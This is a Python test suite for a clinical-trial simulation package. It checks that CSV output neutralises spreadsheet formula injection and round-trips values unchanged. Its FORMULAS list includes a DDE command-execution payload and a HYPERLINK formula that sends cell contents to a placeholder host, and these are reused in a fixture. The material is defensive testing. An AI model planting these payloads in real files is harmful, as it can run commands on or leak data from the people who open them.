"""CSV files: no cell of them is live in a spreadsheet, and our own readers give back what was written."""

import ast
import copy
import csv
import io
import json
import unicodedata

import numpy as np
import pandas as pd
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from simtrial import csv_files
from simtrial.cli import app
from simtrial.patients import data as patient_data
from simtrial.patients import files as patient_files
from simtrial.show.table import Table
from simtrial.trial import params
from simtrial.trial.case import Case

FORMULAS = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid?x="&A1,"see")', "+1+1", "-1+1", "@SUM(1,1)", "  =1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20A1", "\u200b=1", "\ufeff=1", "\xa0=1", '"=1+1"', "=1\n=2", "a\n=1",
    "n = 1; =1+1", "a;\t-1+1", "a|@A1", "-", "--1", "=", "-1,5", "+49 30 1", "-1 of 2", "'=1", "''-1+1", "' =1",
)  # fmt: skip
"""Texts that a spreadsheet may compute, or may take apart into such texts."""

CONTROLS = ("\t1", "\r1", "\n1", "\t=1", "\r\n=1", "\r", "a\r=1", " \t1")
HARMLESS = (
    "", "a", "n = 5", "p0 - p1", "'t Hart", "'", "''", "''a", "-1", "+0.5", "-1.5e-3", " -1 ", "1e5", "2025-07-31",
    "–1", "a,b", 'say "x"', "a;b", "a\rb", "a\r\nb", "x\n", " y ", "-.5", "SYN-001", "1/15, 5/25",
)  # fmt: skip

odd = st.sampled_from("=+-@'\"; ,\t\r\n|0.e\uff1d\uff0d\u200b\xa0")
hostile = st.one_of(st.text(odd, max_size=6), st.text(max_size=6))


def parsed(text, separator=","):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def computed(cell):
    """What a spreadsheet may compute, said apart from the writer: a formula sign first, but for plain numbers."""
    try:
        float(cell)
        return False
    except ValueError:
        pass
    seen = cell.lstrip(' "\xa0\u200b\ufeff')
    return cell[:1] in ("\t", "\r", "\n") or unicodedata.normalize("NFKC", seen[:1]) in ("=", "+", "-", "@")


@pytest.mark.parametrize("text", [*FORMULAS, *CONTROLS])
def test_no_text_is_written_as_a_formula(text):
    assert csv_files.guarded(text) != text
    written = csv_files.written([text, "x"], [["a", text], [text, 1]])
    assert not [cell for row in parsed(written) for cell in row if computed(cell)]
    for separator in (";", "\t", "|"):  # the language of a spreadsheet decides which it takes
        cells = (cell for row in parsed(written, separator) for cell in row)
        assert not [cell for cell in cells if computed(cell.strip())]


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_days_names_and_other_texts_stay_as_they_are(text):
    assert csv_files.guarded(text) == csv_files.plain(text) == text
    assert parsed(csv_files.written(["x", "y"], [[text, "z"]]))[1] == [text, "z"]


@given(st.lists(st.tuples(hostile, hostile), max_size=2), st.tuples(hostile, hostile))
def test_what_is_written_is_read_back_unchanged(rows, head):
    assert csv_files.read(csv_files.written(head, rows)) == [list(head), *map(list, rows)]


@given(hostile)
def test_no_text_is_computed_once_it_is_guarded_and_apostrophes_are_all_that_is_added(text):
    safe = csv_files.guarded(text)
    assert not computed(safe)
    assert safe.replace("'", "") == text.replace("'", "")
    assert csv_files.plain(safe) == text


@given(st.lists(st.one_of(st.floats(), st.integers(-(2**62), 2**62)), max_size=5))
def test_numbers_are_read_back_to_the_last_bit(numbers):
    _, *rows = csv_files.read(csv_files.written(["x", "y"], [[number, "a"] for number in numbers]))
    for number, (cell, _) in zip(numbers, rows, strict=True):
        assert cell == "" if number != number else type(number)(cell) == number


def test_a_frame_without_formulas_is_written_as_pandas_writes_it():
    rng = np.random.default_rng(1)
    frame = pd.DataFrame(
        {
            "x": np.where(rng.random(300) < 0.1, np.nan, rng.normal(size=300) * 10.0 ** rng.integers(-320, 300, 300)),
            "n": rng.integers(-5, 10**12, 300),
            "yes": rng.random(300) < 0.5,
            "said": rng.choice(["a", 'b "c"', "d, e", "–"], 300),
            "some": rng.choice(np.array([None, 1, -0.25, True, "z"], dtype=object), 300),
        }
    )
    assert csv_files.of_frame(frame) == frame.to_csv(index=False)
    assert csv_files.of_frame(frame[:0]) == frame[:0].to_csv(index=False)


def test_a_carriage_return_alone_is_quoted_and_an_empty_row_of_one_column_is_a_row():
    assert csv_files.written(["x"], [["a\rb"], [""], [None]]) == 'x\n"a\rb"\n""\n""\n'


WRITERS = ("to_csv", "savetxt", "DictWriter", "write_csv", "writer")


def writes_csv(source):
    """Calls that write CSV, and imports that they may hide behind."""
    if not any(word in source for word in (*WRITERS, "from csv", "from _csv")):
        return
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call):
            name = getattr(node.func, "attr", getattr(node.func, "id", ""))
            if name in WRITERS and (name != "writer" or "csv" in ast.unparse(node)):
                yield name
        if isinstance(node, ast.ImportFrom) and node.module in ("csv", "_csv") and node.col_offset == 0:
            yield f"from {node.module}"


def test_all_csv_is_written_in_one_place(root):
    seen = "from csv import writer\nframe.to_csv(x)\nw = csv.writer(f)\nnp.savetxt(f, x)\nfile.writer()\n"
    assert list(writes_csv(seen)) == ["from csv", "to_csv", "writer", "savetxt"]
    code = {path: path.read_text(encoding="utf-8") for path in (root / "simtrial").rglob("*.py")}
    for path in (root / "notebooks").rglob("*.ipynb"):
        cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
        code[path] = "\n".join("".join(cell["source"]) for cell in cells if cell["cell_type"] == "code")
    assert not [path for path, source in code.items() if list(writes_csv(source))]


def free_texts(node, place=()):
    """Places of the texts of a parameter file that may say anything."""
    if isinstance(node, str):
        if place[-1] in ("title", "source", "treatment", "setting", "label", "rationale", "population", "endpoint"):
            yield place
    elif isinstance(node, (dict, list)):
        for key, part in node.items() if isinstance(node, dict) else enumerate(node):
            yield from free_texts(part, (*place, key))


@pytest.fixture(scope="module")
def shown(root, tmp_path_factory):
    """Every table that the notebooks of a report show of a trial all of whose texts are formulas."""
    base = yaml.safe_load((root / "params/NCT07022301.yaml").read_text(encoding="utf-8"))["trial"]
    trial = copy.deepcopy(base)
    trial["conduct"]["simulation"]["trials"] = 100
    for k, place in enumerate(free_texts(base)):
        *above, last = place
        within = trial
        for key in above:
            within = within[key]
        within[last] = f"{FORMULAS[k % 9].strip()} {within[last]}"[:60]
    folder = tmp_path_factory.mktemp("hostile")
    patients = "".join(f"-1+{k},{'PR' if k < 8 else 'SD'}\n" for k in range(1, 26))
    (folder / "=1+1.csv").write_text(f"USUBJID,BOR\n{patients}")
    trial["analysis"] = {"patients": str(folder / "=1+1.csv"), "source": "=1+1"}
    case = Case.of(params.load(trial))
    tables = {}
    for name in ("01_design", "03_enrollment_and_dropout", "05_final_analysis", "08_evidence"):
        run = {"case": case}
        for cell in json.loads((root / f"notebooks/{name}.ipynb").read_text(encoding="utf-8"))["cells"]:
            for step in ast.parse("".join(cell["source"])).body if cell["cell_type"] == "code" else ():
                said = ast.unparse(step)
                if any(word in said for word in ("timed", "levers", "sensitivity", "pending", "averaged", "front")):
                    continue  # numbers alone, which take seconds
                if isinstance(step, ast.ImportFrom) or (isinstance(step, ast.Assign) and "params" not in said):
                    exec(said, run)
                elif isinstance(step, ast.Expr) and ("tables." in said or "posted." in said):
                    table = eval(said, run)
                    if isinstance(table, Table):  # a caption of a figure may come from there too
                        tables[table.name] = table.csv()
    return tables


@pytest.mark.long
def test_no_table_of_a_report_on_hostile_texts_holds_a_live_cell(shown):
    assert len(shown) > 25
    assert not [(name, cell) for name, said in shown.items() for row in parsed(said) for cell in row if computed(cell)]


@pytest.mark.long
def test_the_texts_of_the_trial_are_in_its_tables_as_they_were_given(shown):
    cells = {cell for said in shown.values() for row in csv_files.read(said) for cell in row}
    assert len([cell for cell in cells if computed(cell)]) > 10


def test_a_synthetic_trial_holds_no_live_cell_and_is_read_back(root, tmp_path, capsys):
    assert app.main(["synthetic", str(root / "params/smoke.yaml")]) == 0
    written = capsys.readouterr().out
    assert not [cell for row in parsed(written) for cell in row if computed(cell)]
    (tmp_path / "synthetic.csv").write_text(written, encoding="utf-8")
    held = patient_files.read(tmp_path / "synthetic.csv", lambda heading: [heading])
    assert [list(held.headings), *(list(cells) for _, cells in held.rows)] == csv_files.read(written)
    assert patient_data.read(tmp_path / "synthetic.csv").disposition()


@given(texts=st.lists(st.text(odd, min_size=1, max_size=6), min_size=1, max_size=3))
def test_files_of_patients_that_we_write_are_read_back_unchanged(texts, tmp_path_factory):
    path = tmp_path_factory.getbasetemp() / "patients.csv"
    path.write_bytes(csv_files.written(["USUBJID", "NOTE"], [[k, text] for k, text in enumerate(texts)]).encode())
    sheet = patient_files.read(path, lambda heading: [heading] if heading in ("USUBJID", "NOTE") else [])
    assert [cells[1] for _, cells in sheet.rows] == [text.strip() for text in texts]


def test_names_of_statements_are_read_back_unchanged(tmp_path, capsys):
    names = ["=1+1", "-1+1", "'t Hart", "'=1", "7"]
    path = tmp_path / "statements.csv"
    path.write_text(csv_files.written(["id", "p0", "n"], [[name, 0.1, 25] for name in names]), encoding="utf-8")
    assert app.main(["check", "--csv", str(path), "--json"]) == 0
    assert [one["id"] for one in json.loads(capsys.readouterr().out)["verdicts"]] == names
